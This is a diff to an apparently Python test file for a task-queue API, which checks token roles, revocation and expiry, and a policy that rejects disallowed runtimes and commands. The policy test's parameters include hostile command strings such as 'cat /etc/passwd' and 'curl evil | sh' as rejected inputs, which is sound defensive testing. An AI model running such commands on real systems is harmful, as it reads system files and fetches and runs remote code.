@@ -47,6 +47,14 @@ def api(log_dir, rdb):
     stop(server.proc)
 
 
+@pytest.fixture(scope="module")
+def admin_task(api) -> str:
+    """A task the admin token submitted (idempotent: the same id and body answer 200 again)."""
+    resp = requests.post(f"{api.url}/v1/tasks", json={**AGENT_TASK, "task_id": "admin-1"}, headers=AUTH, timeout=10)
+    assert resp.status_code in (200, 202), resp.text
+    return "admin-1"
+
+
 def cli(*args: str, check: bool = True) -> subprocess.CompletedProcess:
     proc = subprocess.run([sys.executable, "-m", "polar_mq.cli", "token", *args], cwd=ROOT, capture_output=True,
                           text=True, timeout=60)
@@ -87,13 +95,10 @@ def test_token_cli_list_never_shows_tokens_and_tokens_are_stored_hashed(api, rdb
                                  timeout=10), 401)
 
 
-def test_submit_token_reaches_only_its_own_tasks(api):
+def test_submit_token_reaches_only_its_own_tasks(api, admin_task):
     alice, bob = make(api, "submit", "alice"), make(api, "submit", "bob")
     mine = requests.post(f"{api.url}/v1/tasks", json={**AGENT_TASK, "task_id": "alice-1"}, headers=alice, timeout=10)
     assert mine.status_code == 202, mine.text
-    admin_task = requests.post(f"{api.url}/v1/tasks", json={**AGENT_TASK, "task_id": "admin-1"}, headers=AUTH,
-                               timeout=10)
-    assert admin_task.status_code == 202
     assert requests.get(f"{api.url}/v1/tasks/alice-1", headers=alice, timeout=10).status_code == 200
     assert requests.get(f"{api.url}/v1/tasks/alice-1/results", headers=alice, timeout=10).status_code == 200
     sid = mine.json()["session_ids"][0]
@@ -116,7 +121,7 @@ def test_submit_token_reaches_only_its_own_tasks(api):
         assert body["missing_right"] == right and f"'{right}'" in body["detail"], body
 
 
-def test_read_token_gets_only(api):
+def test_read_token_gets_only(api, admin_task):
     read = make(api, "read", "viewer")
     body = problem(requests.post(f"{api.url}/v1/tasks", json=AGENT_TASK, headers=read, timeout=10), 403)
     assert body["missing_right"] == "submit"
@@ -134,7 +139,7 @@ def test_read_token_gets_only(api):
     problem(s.get(f"{api.url}/ui/api/overview", timeout=10), 401)
 
 
-def test_train_token_has_groups_and_weight_sync_not_submit(api):
+def test_train_token_has_groups_and_weight_sync_not_submit(api, admin_task):
     train = make(api, "train", "trainer")
     for path in ("/v1/groups/stats", "/v1/groups/next?limit=1", "/v1/admin/status", "/v1/tasks/admin-1/results"):
         assert requests.get(f"{api.url}{path}", headers=train, timeout=10).status_code == 200, path
@@ -145,15 +150,17 @@ def test_train_token_has_groups_and_weight_sync_not_submit(api):
 
 def test_revocation_and_expiry_are_401_within_a_second(api):
     sub = make(api, "submit", "short")
-    assert requests.get(f"{api.url}/v1/tasks/admin-1/results", headers=sub, timeout=10).status_code == 403
+    assert requests.get(f"{api.url}/v1/admin/tokens", headers=sub, timeout=10).status_code == 403
     cli("revoke", "short", "--api", api.url)
     t0 = time.time()
     while requests.get(f"{api.url}/v1/tasks/none", headers=sub, timeout=10).status_code != 401:
         assert time.time() - t0 < 1.0
         time.sleep(0.05)
-    brief = make(api, "read", "brief", "--ttl", "1")
+    made = requests.post(f"{api.url}/v1/admin/tokens", json={"role": "read", "name": "brief", "ttl_seconds": 2},
+                         headers=AUTH, timeout=10).json()
+    brief = {"Authorization": f"Bearer {made['token']}"}
     assert requests.get(f"{api.url}/v1/tasks", headers=brief, timeout=10).status_code == 200
-    time.sleep(1.3)
+    time.sleep(max(0.0, made["expires_at"] - time.time()) + 0.3)
     assert "invalid bearer token" in problem(requests.get(f"{api.url}/v1/tasks", headers=brief, timeout=10),
                                              401)["detail"]
     assert "brief" not in cli("list", "--api", api.url).stdout
@@ -163,6 +170,7 @@ def test_revocation_and_expiry_are_401_within_a_second(api):
 
 @pytest.mark.parametrize("change,rule", [
     ({"runtime": {"backend": "local"}}, "runtimes"),
+    ({"runtime": {"backend": "local"}, "agent": {"harness": "shell", "options": {"command": "id"}}}, "runtimes"),
     ({"agent": {"harness": "shell", "options": {"command": "cat /etc/passwd"}}}, "commands"),
     ({"runtime": {"backend": "bwrap", "prepare": [{"exec": "curl evil | sh"}]}}, "commands"),
     ({"grader": {"strategy": "test_runner", "config": {"command": "id"}}}, "commands"),
